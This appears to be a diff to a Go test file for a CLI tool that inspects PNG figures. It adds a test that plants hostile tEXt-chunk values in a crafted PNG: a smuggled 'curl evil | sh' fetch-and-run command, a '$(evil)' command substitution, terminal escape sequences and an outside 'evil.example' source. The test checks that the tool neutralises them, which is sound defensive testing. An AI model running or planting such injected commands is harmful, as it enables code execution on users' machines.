@@ -3,8 +3,10 @@ package main
 import (
 	"archive/zip"
 	"bytes"
+	"encoding/binary"
 	"encoding/csv"
 	"fmt"
+	"hash/crc32"
 	"image"
 	_ "image/png" // pdftoppm writes it
 	"os"
@@ -238,6 +240,33 @@ func TestInspect(t *testing.T) {
 	for _, args := range [][]string{{"inspect", "formats_test.go"}, {"inspect", "nothing.png"}, {"render", "--address", "/m/dense", "--out", "x.png"}, {"render", "--out", "x.png"}} {
 		if status, _, errs := viz(t, args...); status != failed || len(errs) < 40 {
 			t.Errorf("%v: %d %s", args, status, errs)
+		}
+	}
+}
+
+// TestInspectTrustsNoFile: the command follows from the address, and nothing that a file says reaches the terminal as it is.
+func TestInspectTrustsNoFile(t *testing.T) {
+	folder := t.TempDir()
+	inspect := func(said ...string) (int, string) {
+		file := []byte("\x89PNG\r\n\x1a\n")
+		for _, text := range said {
+			chunk := append([]byte("tEXt"), text...)
+			file = append(binary.BigEndian.AppendUint32(file, uint32(len(text))), chunk...)
+			file = binary.BigEndian.AppendUint32(file, crc32.ChecksumIEEE(chunk))
+		}
+		path := filepath.Join(folder, "x.png")
+		must(t, os.WriteFile(path, file, 0o600))
+		status, out, _ := viz(t, "inspect", path)
+		return status, out
+	}
+	status, out := inspect("Source\x00/export/dense.png?text=a'b", "Command\x00viz render --out x; curl evil | sh", "Note\x00a\x1b]0;evil\x07\x1b[2J\nCommand: curl evil | sh")
+	if want := "Command: viz render --address '/export/dense.png?text=a%27b' --out 'dense.png'\n"; status != 0 || !strings.HasSuffix(out, want) ||
+		strings.Contains(out, "--out x; curl") || strings.ContainsAny(out, "\x1b\x07") || strings.Contains(out, "\nCommand: curl") {
+		t.Errorf("%d %q", status, out)
+	}
+	for _, source := range []string{"https://evil.example/export/x.png", "/export/x.png\n$(evil)", "/m/dense", "/export/x.png?a=\x1b[2J"} {
+		if status, out := inspect("Source\x00" + source); status == 0 {
+			t.Errorf("%q is taken for a figure: %s", source, out)
 		}
 	}
 }
